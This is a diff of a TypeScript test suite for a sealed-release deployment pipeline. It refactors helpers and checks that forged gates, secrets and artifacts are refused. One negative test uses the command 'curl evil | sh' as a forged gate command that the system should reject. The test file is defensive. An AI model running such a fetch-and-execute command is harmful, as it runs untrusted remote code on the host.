@@ -6,42 +6,32 @@ import type { Activities } from '../../../workflows/activity-contract.js';
 import { givenArtifacts, givenImage } from '../../support/given.js';
 import { givenPolicyStore } from '../../support/policies.js';
 import {
-  beginsWith,
   evidenceOf,
   GATE,
   gateInput,
   givenSealedRelease,
-  refusalWith,
   throughVouching,
-  useSealKeys,
-  type Name,
   type SealedRelease,
 } from '../../support/sealed.js';
+import { useVouchingWorker } from '../../support/vouching-worker.js';
 
-const keys = useSealKeys();
+const { keys, begins, refusal } = useVouchingWorker();
 let release: SealedRelease;
 
 beforeAll(async () => {
   release = await givenSealedRelease(keys.ours);
 });
 
-const call = (name: Name, input: unknown): Promise<boolean> => beginsWith(keys.ours, name, input);
-const refusalOf = (name: Name, input: unknown): Promise<string> => refusalWith(keys.ours, name, input);
-
 describe('a gate', () => {
   const input = () => gateInput(release.plan, release.environment, release.artifacts);
   const ask = (change: Partial<Parameters<Activities['runGate']>[0]>) => ({ ...input(), ...change });
 
   test('is asked as the sealed plan says', async () => {
-    expect(await call('runGate', input())).toBe(true);
+    expect(await begins('runGate', input())).toBe(true);
   });
 
   test.each<[string, () => unknown, RegExp]>([
-    [
-      'another command',
-      () => ask({ gate: { ...GATE, command: 'curl evil | sh' } as typeof GATE }),
-      /no such gate/,
-    ],
+    ['another command', () => ask({ gate: { ...GATE, command: 'curl evil | sh' } }), /no such gate/],
     [
       'no seal',
       () => {
@@ -84,7 +74,7 @@ describe('a gate', () => {
       /is for app, not for none/,
     ],
   ])('is not asked with %s', async (_what, forge, reason) => {
-    expect(await refusalOf('runGate', forge())).toMatch(reason);
+    expect(await refusal('runGate', forge())).toMatch(reason);
   });
 });
 
@@ -109,7 +99,7 @@ describe('a build', () => {
       /changed after/,
     ],
   ])('is not begun with %s', async (_what, forge, reason) => {
-    expect(await refusalOf('buildArtifacts', forge())).toMatch(reason);
+    expect(await refusal('buildArtifacts', forge())).toMatch(reason);
   });
 
   const sealedWith = async (change: Partial<ReleasePlan>): Promise<ReleasePlan> => {
@@ -121,7 +111,7 @@ describe('a build', () => {
 
   test('is not begun for a push that goes to no environment, which has no gates', async () => {
     const plan = await sealedWith({ environments: [], gates: [] });
-    expect(await refusalOf('buildArtifacts', { plan })).toMatch(/for no environment/);
+    expect(await refusal('buildArtifacts', { plan })).toMatch(/for no environment/);
   });
 
   test('is not begun with a login that the policy of this moment does not list', async () => {
@@ -130,11 +120,9 @@ describe('a build', () => {
     );
     const registry = { server: 'cr.example.com', username: 'x', password: 'env:OTHER' };
     const plan = await sealedWith({ registry });
-    expect(await refusalWith(keys.ours, 'buildArtifacts', { plan }, policy)).toMatch(
-      /secret env:OTHER is not allowed/,
-    );
+    expect(await refusal('buildArtifacts', { plan }, policy)).toMatch(/secret env:OTHER is not allowed/);
     const allowed = await sealedWith({ registry: { ...registry, password: 'env:PROD_REGISTRY' } });
-    expect(await beginsWith(keys.ours, 'buildArtifacts', { plan: allowed }, policy)).toBe(true);
+    expect(await begins('buildArtifacts', { plan: allowed }, policy)).toBe(true);
   });
 
   test.each<[string, Partial<ReleasePlan>]>([
@@ -156,20 +144,20 @@ describe('a build', () => {
       adopted: true,
     }));
     const stolen = { ...release.target, artifacts: built.artifacts };
-    expect(await refusalOf('deploy', { target: stolen, prior: [] })).toMatch(/no worker vouches/);
+    expect(await refusal('deploy', { target: stolen, prior: [] })).toMatch(/no worker vouches/);
     const other = { ...release.target, plan: environment, artifacts };
-    expect(await refusalOf('deploy', { target: other, prior: [] })).toMatch(/no worker vouches/);
+    expect(await refusal('deploy', { target: other, prior: [] })).toMatch(/no worker vouches/);
   });
 
   test('waits for the release’s own gates', async () => {
     const plan = await sealedWith({ gates: [GATE] });
-    expect(await refusalOf('buildArtifacts', { plan, evidence: release.evidence })).toMatch(
+    expect(await refusal('buildArtifacts', { plan, evidence: release.evidence })).toMatch(
       /nobody vouches that gate ci/,
     );
     const seal = plan.seal === undefined ? {} : { seal: plan.seal };
     const asked = { ...gateInput(plan, release.environment, []), ...seal };
     const item = await throughVouching(keys.ours, 'runGate', asked, () => evidenceOf('pass'));
-    expect(await call('buildArtifacts', { plan, evidence: [item] })).toBe(true);
+    expect(await begins('buildArtifacts', { plan, evidence: [item] })).toBe(true);
   });
 });
 
